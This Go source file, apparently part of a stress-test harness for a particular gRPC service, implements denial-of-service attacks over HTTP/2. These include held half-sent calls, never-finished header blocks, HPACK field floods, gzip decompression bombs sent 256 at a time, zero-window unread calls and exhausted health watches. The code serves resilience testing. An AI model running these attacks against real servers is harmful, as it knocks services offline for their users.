package attack

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"net"
	"slices"
	"strings"

	"golang.org/x/net/http2/hpack"
)

// messageSize is the largest message that the server takes, with its prefix of
// five bytes beside it.
const messageSize = 16 << 10

// prefixed returns a gRPC message of which the first n bytes are there.
func prefixed(announced, n int) []byte {
	body := make([]byte, n)
	binary.BigEndian.PutUint32(body[1:], uint32(announced))
	return body
}

// Metadata of nearly all that a call may have, and of nearly all that the transport takes before the
// call is refused.
var (
	largeMetadata   = hpack.HeaderField{Name: "x-held", Value: strings.Repeat("x", 47<<10)}
	refusedMetadata = hpack.HeaderField{Name: "x-held", Value: strings.Repeat("x", 126<<10)}
)

// manyFields are one byte each on the wire, 35 as HPACK counts them, and more in the server.
var manyFields = slices.Repeat([]hpack.HeaderField{{Name: "age"}}, 440)

// hold opens as many calls as the server allows, each with metadata and the
// beginning of a message whose end never comes.
func hold(bytes int, metadata ...hpack.HeaderField) func(context.Context, *client) error {
	return func(ctx context.Context, c *client) error {
		block, body := c.header(issueToken, metadata...), prefixed(messageSize, bytes)
		for {
			if err := c.awaitPlace(ctx); err != nil {
				return err
			}
			id, err := c.begin(block, message)
			if err != nil {
				return err
			}
			if err := c.data(id, body, false); err != nil {
				return err
			}
		}
	}
}

// unendedHeaders sends nearly all that the transport takes of a header block and never its end.
func unendedHeaders(ctx context.Context, c *client) error {
	block := c.header(issueToken, refusedMetadata)
	if _, err := c.begin(block[:len(block)-1], unended); err != nil {
		return err
	}
	return c.hold(ctx)
}

// unendedFields sends as many header fields as the transport takes, a byte each, and never their end.
func unendedFields(ctx context.Context, c *client) error {
	block := c.header(issueToken, slices.Repeat(manyFields[:1], 3700)...)
	if _, err := c.begin(block, unended); err != nil {
		return err
	}
	return c.hold(ctx)
}

// bombs makes calls, 256 at a time, whose message of 16 KiB unpacks to 10 MiB.
func bombs(ctx context.Context, c *client) error {
	block := c.header(issueToken, hpack.HeaderField{Name: "grpc-encoding", Value: "gzip"})
	var packed bytes.Buffer
	packer := gzip.NewWriter(&packed)
	if _, err := packer.Write(make([]byte, 10<<20)); err != nil {
		return err
	}
	if err := packer.Close(); err != nil {
		return err
	}
	body := append([]byte{1, 0, 0, 0, 0}, packed.Bytes()...)
	binary.BigEndian.PutUint32(body[1:], uint32(packed.Len()))
	for {
		for c.open.Load() >= bombsAtOnce {
			if err := c.pause(ctx); err != nil {
				return err
			}
		}
		id, err := c.begin(block, message)
		if err != nil {
			return err
		}
		if err := c.data(id, body, true); err != nil {
			return err
		}
	}
}

const bombsAtOnce = 256

// unread makes as many calls as the server allows. With a window of zero bytes
// their replies cannot be sent.
func unread(ctx context.Context, c *client) error {
	block := c.header(issueToken)
	for {
		if err := c.awaitPlace(ctx); err != nil {
			return err
		}
		if err := c.call(block); err != nil {
			return err
		}
	}
}

// neverReads makes calls without end and does not read the socket.
func neverReads(ctx context.Context, a *attacker, conn net.Conn) error {
	if small, ok := conn.(interface{ SetReadBuffer(bytes int) error }); ok {
		_ = small.SetReadBuffer(4096)
	}
	c, err := connect(a, conn, true)
	if err != nil {
		return err
	}
	c.window.Store(1 << 40) // nobody hears of updates; the server gives them as it reads
	block := c.header(issueToken)
	for ctx.Err() == nil {
		if err := c.call(block); err != nil {
			return err
		}
	}
	return ctx.Err()
}

// watches holds as many health watches as the server allows.
func watches(ctx context.Context, c *client) error {
	block := c.header(healthWatch)
	for {
		if err := c.awaitPlace(ctx); err != nil {
			return err
		}
		if err := c.watch(block); err != nil {
			return err
		}
		if err := c.pause(ctx); err != nil {
			return err
		}
	}
}

func (c *client) watch(block []byte) error {
	id, err := c.begin(block, message)
	if err != nil {
		return err
	}
	return c.data(id, prefixed(0, 5), true)
}
